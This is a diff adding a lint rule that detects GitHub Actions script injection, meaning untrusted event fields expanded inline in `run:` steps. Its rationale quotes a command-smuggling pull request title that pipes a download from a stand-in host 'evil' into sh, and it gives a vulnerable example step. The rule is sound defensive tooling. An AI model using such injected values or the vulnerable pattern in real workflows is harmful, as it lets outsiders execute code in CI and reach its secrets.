@@ -1,0 +1,46 @@
+"""Checks that untrusted `${{ github.event.* }}` values are never expanded inline in `run:` scripts."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Mapping
+from typing import Any
+
+from platctl.doctor.model import Finding, Level, RuleMeta, Severity
+from platctl.doctor.repo import Repo
+from platctl.doctor.rules.ci._workflows import iter_steps, iter_workflows
+
+META = RuleMeta(
+    code="CI008",
+    slug="script-injection",
+    title="Untrusted event values go through env:, not inline in run:",
+    severity=Severity.ERROR,
+    level=Level.BRONZE,
+    rationale=(
+        "`${{ }}` is expanded before the shell runs, so a pull request title such as "
+        "`\"; curl evil | sh #` becomes part of your script. Pass the value through `env:` and quote it."
+    ),
+    example='- run: echo "${{ github.event.pull_request.title }}"',
+    fix_example='- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$TITLE"',
+)
+
+_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
+_UNTRUSTED = re.compile(
+    r"github\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label)|head\.repo\.default_branch)"
+    r"|comment\.body|review\.body|review_comment\.body|pages\b.*\.page_name|commits\b.*\.(message|author\.(email|name))"
+    r"|head_commit\.(message|author\.(email|name))|discussion\.(title|body)|workflow_run\.head_branch))"
+)
+
+
+def check(repo: Repo, options: Mapping[str, Any]) -> Iterator[Finding]:
+    for workflow in iter_workflows(repo):
+        for _, job in workflow.jobs():
+            for step in iter_steps(job):
+                script = step.get("run")
+                if not isinstance(script, str):
+                    continue
+                for expression in _EXPRESSION.findall(script):
+                    match = _UNTRUSTED.search(expression)
+                    if match:
+                        yield META.finding(f"run: expands untrusted {match.group(0)} inline; pass it through env:",
+                                           workflow.path, workflow.line(step, "run"))
